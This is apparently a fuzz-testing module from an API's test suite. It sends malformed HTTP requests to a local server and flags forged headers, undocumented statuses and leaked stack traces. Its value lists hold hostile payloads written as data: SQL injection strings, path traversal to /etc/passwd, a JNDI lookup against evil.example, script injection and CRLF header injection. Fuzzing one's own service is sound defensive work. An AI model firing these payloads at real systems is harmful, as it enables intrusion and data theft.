"""Requests that no client of good will sends: nasty values at every place of every route, byte by byte."""

import socket
from collections.abc import Mapping
from http.client import HTTPException, HTTPResponse
from random import Random
from typing import Any
from urllib.parse import quote

from tests.conftest import HOUSE
from tests.fuzz.tally import Tally

FORGED = "FORGED-LINE"
VALUES = (
    "",
    "0",
    "-1",
    "1e999",
    "NaN",
    "Infinity",
    str(2**63),
    str(2**64),
    "9" * 400,
    "' OR '1'='1",
    "'; DROP TABLE jobs; --",
    "1) UNION SELECT secret_sha256 FROM keys --",
    "x' AND pg_sleep(9) --",
    "\0",
    "a\0b",
    "..",
    "../../etc/passwd",
    "..\\..\\windows",
    "//evil.example",
    "{{7*7}}",
    "${jndi:ldap://evil.example/a}",
    "<script>alert(1)</script>",
    "%s%n%x",
    "a" * 5000,
    f"\r\n{FORGED}: 1",
    f"\n{FORGED} request",
    "me",
    "00000000-0000-0000-0000-000000000000",
    "housing@champion",
    "housing:999999999999",
    "\u202e\U0001f3e0",
    "sk_00000000",
    "[]",
    "{}",
    "true",
    "null",
    "*",
)
# What percent-encoding may hold, and text may not.
ENCODED = ("%ED%A0%80", "%FF", "%00", "%2e%2e%2f", "%252e%252e", "%", "%zz", "%C0%AF", "+", ";", "&&=", "?", "#")
HEADERS = (
    "Accept",
    "Prefer",
    "Range",
    "X-Request-ID",
    "Idempotency-Key",
    "If-None-Match",
    "If-Match",
    "Last-Event-ID",
    "Content-Type",
    "Content-Encoding",
    "Accept-Encoding",
    "Expect",
    "Cookie",
    "Host",
    "Origin",
    "X-Forwarded-For",
    "Authorization",
)
HEADER_VALUES = (
    *(value for value in VALUES if "\n" not in value and "\0" not in value),
    "text/csv; q=9, */*; q=-1",
    "application/json;" + "q=0.1," * 500,
    "text/csv;charset=utf-7",
    "application/json; charset=utf-16",
    "multipart/form-data",
    "multipart/form-data; boundary=" + "x" * 300,
    "wait=999999999999",
    "wait=-1, wait=1, respond-async",
    "bytes=0-18446744073709551616",
    "bytes=-1,-2,0-",
    'W/"1", "2", "9' + "9" * 300 + '"',
    "Bearer " + "A" * 3000,
    "gzip, gzip",
)
BODIES = (
    b"",
    b"\0",
    b"{",
    b"[" * 100_000,
    b'{"a":' * 500 + b"1" + b"}" * 500,
    b'{"longitude": NaN}',
    b'{"longitude": 1e999}',
    b'{"longitude": 9223372036854775808}',
    b'{"longitude": "\\ud800"}',
    b'{"longitude": "\\u0000"}',
    b'{"longitude": 1, "longitude": 2}',
    b'\xff\xfe{\0"\0',
    b"\x1f\x8b\x08\0",
    b"PAR1PAR1",
    b'{"email": "a@b.c\\u0000", "username": "x"}',
    b'{"email": "' + b"a" * 70_000 + b'@example.org", "username": "x"}',
    b'{"input": {"a": [[[]]]}, "model": "housing\\u0000", "metadata": {"\\u0000": ""}}',
    b'{"name": "\\r\\nFORGED-LINE"}',
    b'{"version": 9223372036854775808}',
    b'{"records": [{"longitude": {"a": 1}}]}',
    b'{"columns": ["a", "a"], "data": [[1, 2]]}',
)
OF_ITSELF = (("PUT", "/users/{user_id}"), ("DELETE", "/users/{user_id}"))
METHODS = ("GET", "POST", "PUT", "DELETE", "PATCH", "OPTIONS", "TRACE", "FOO")
HOUSES = str(HOUSE).replace("'", '"').encode()
SECONDS = 30


class Answer:
    """Status, headers and body; of one that is not read on, as much as came."""

    def __init__(self, found: HTTPResponse) -> None:
        self.status, self.headers = found.status, found.headers
        self.body = found.read(1 << 16) if "event-stream" not in self.headers.get("content-type", "") else b""


def sent(port: int, data: bytes, ends: bool = False) -> Answer | None:
    """What these bytes are answered with; None when the connection is just closed."""
    with socket.create_connection(("127.0.0.1", port), timeout=SECONDS) as link:
        try:
            link.sendall(data)
            if ends:
                link.shutdown(socket.SHUT_WR)
            found = HTTPResponse(link, method=data[:5].split(b" ")[0].decode("latin-1"))
            found.begin()
            return Answer(found)
        except (HTTPException, ConnectionError):
            return None


def written(method: str, target: str, headers: Mapping[str, str], body: bytes = b"") -> bytes:
    """A request as it goes over the wire, with nothing in it put right."""
    given = {"Host": "127.0.0.1", "Connection": "close", "Content-Length": str(len(body)), **headers}
    lines = [f"{method} {target} HTTP/1.1", *(f"{name}: {value}" for name, value in given.items()), "", ""]
    return "\r\n".join(lines).encode("utf-8", "surrogateescape") + body


class Attacker:
    """Nasty requests by chance, each of which the document knows the answers of."""

    def __init__(self, port: int, key: str, document: Mapping[str, Any], tally: Tally, job: str) -> None:
        self.port, self.key, self.tally, self.job = port, key, tally, job
        self.known = {
            (method.upper(), path): operation["responses"].keys()
            for path, operations in document["paths"].items()
            for method, operation in operations.items()
        }
        # Its own user would be erased or closed.
        self.routes = [route for route in self.known if route not in OF_ITSELF]

    def attack(self, number: int, chance: Random) -> None:
        for _ in range(number):
            method, path = chance.choice(self.routes)
            if path != "/users/{user_id}" and chance.random() < 0.05:
                method = chance.choice(METHODS)
            data = self.request(method, path, chance)
            answer = sent(self.port, data)
            self.tally.note("hostile", answer.status if answer else 0)
            if answer:
                self.tally.note_made(method, path, answer.status, "idempotent-replayed" in answer.headers)
                self.judge(method, path, data, answer)

    def request(self, method: str, path: str, chance: Random) -> bytes:
        target = "/".join(self.part(part, chance) for part in path.split("/"))
        if chance.random() < 0.5:
            target += "?" + "&".join(self.pair(chance) for _ in range(chance.randint(1, 4)))
        headers = {"X-API-Key": self.key, "Content-Type": "application/json"}
        for _ in range(chance.randint(0, 3)):
            headers[chance.choice(HEADERS)] = chance.choice(HEADER_VALUES)
        body = chance.choice((HOUSES, *BODIES)) if method in ("POST", "PUT", "PATCH") else b""
        return written(method, target, headers, body)

    def part(self, part: str, chance: Random) -> str:
        if not part.startswith("{"):
            return part
        return self.job if part == "{job_id}" and chance.random() < 0.5 else self.value(chance)

    def pair(self, chance: Random) -> str:
        names = ("after", "status", "model", "limit", "wait", "meta.a", "username", "key", "job", "format", "include")
        others = ("follow", "name", "on_error", "delimiter", "dry_run", "expires_in", "raw", "x")
        return f"{chance.choice(names + others)}={self.value(chance)}"

    def value(self, chance: Random) -> str:
        if chance.random() < 0.2:
            return chance.choice(ENCODED)
        return quote(chance.choice(VALUES), safe="")

    def judge(self, method: str, path: str, data: bytes, answer: Answer) -> None:
        words = f"{method} {path}: {answer.status} to {data[:600]!r}"
        kind = answer.headers.get("content-type", "")
        if any(name.startswith(FORGED) for name in answer.headers):
            self.tally.blame(f"a header was forged: {words}")
        if answer.status == 400 and "x-request-id" not in answer.headers:  # what is no HTTP at all, and so no request
            return
        if str(answer.status) not in (*self.known.get((method, path), ()), "404", "405"):
            self.tally.blame(f"not documented: {words}")
        if answer.status >= 400 and answer.status != 503 and kind != "application/problem+json":
            self.tally.blame(f"no problem but {kind}: {words}")
        if b"Traceback" in answer.body:
            self.tally.blame(f"a stack trace: {words}")
